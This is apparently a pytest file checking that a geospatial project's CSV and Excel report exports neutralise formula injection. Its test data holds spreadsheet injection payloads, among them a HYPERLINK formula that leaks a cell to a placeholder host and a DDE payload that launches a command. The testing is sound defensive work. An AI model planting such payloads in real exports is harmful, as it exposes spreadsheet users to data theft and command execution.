"""Exports cannot run code: text that starts like a formula is written as text."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geo.analysis.coverage import analyze_scenario
from geo.analysis.network import WalkNetwork
from geo.batch._city import _write_csv, _write_xlsx
from geo.export import write_report
from geo.export._safe import FORMULA_START, csv_safe
from geo.scenario import Scenario

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _formula_cells(path: Path) -> list[str]:
    workbook = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _text_cells(path: Path) -> list[object]:
    workbook = openpyxl.load_workbook(path)
    return [
        cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    ]


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.fixture(scope="module")
def hostile_report(
    tmp_path_factory: pytest.TempPathFactory, scenario: Scenario, network: WalkNetwork
) -> dict[str, Path]:
    grids = scenario.grids.copy()
    stations = scenario.stations.copy()
    for position, text in enumerate(HOSTILE):
        grids.loc[grids.index[position], "name"] = text
        stations.loc[stations.index[position], "name"] = text
    hostile = replace(scenario, grids=grids, stations=stations)
    coverage = analyze_scenario(hostile, network, progress=False)
    return write_report(
        tmp_path_factory.mktemp("hostile-report"), scenario=hostile, coverage=coverage
    )


def test_report_workbook_holds_no_formula(hostile_report: dict[str, Path]) -> None:
    path = hostile_report["xlsx"]
    assert _formula_cells(path) == []
    values = _text_cells(path)
    for text in HOSTILE:  # kept exactly, as text
        assert text.replace("\r", "\n") in values  # XML reads a CR as a line feed


def test_report_csv_neutralises_formula_text(hostile_report: dict[str, Path]) -> None:
    cells = _csv_cells(hostile_report["grids_csv"])
    for text in HOSTILE:
        assert "'" + text in cells
    starts = [cell for cell in cells if cell.startswith(FORMULA_START)]
    # What still starts like a formula is a number (negative figures stay numbers).
    for cell in starts:
        float(cell)


def test_numbers_stay_numbers() -> None:
    table = pd.DataFrame({"name": ["=1+1", "ok"], "delta": [-3.5, 2.0], "count": [-1, 4]})
    safe = csv_safe(table)
    assert safe["name"].tolist() == ["'=1+1", "ok"]
    assert safe["delta"].tolist() == [-3.5, 2.0] and safe["count"].tolist() == [-1, 4]


def test_batch_city_tables_hold_no_formula(tmp_path: Path) -> None:
    table = pd.DataFrame({"district": HOSTILE, "residents": range(len(HOSTILE))})
    cells = _csv_cells(_write_csv(tmp_path / "summary.csv", table))
    assert all("'" + text in cells for text in HOSTILE)
    workbook = _write_xlsx(tmp_path / "summary.xlsx", table, table, ["=notice"])
    assert _formula_cells(workbook) == []
    assert "=notice" in _text_cells(workbook)
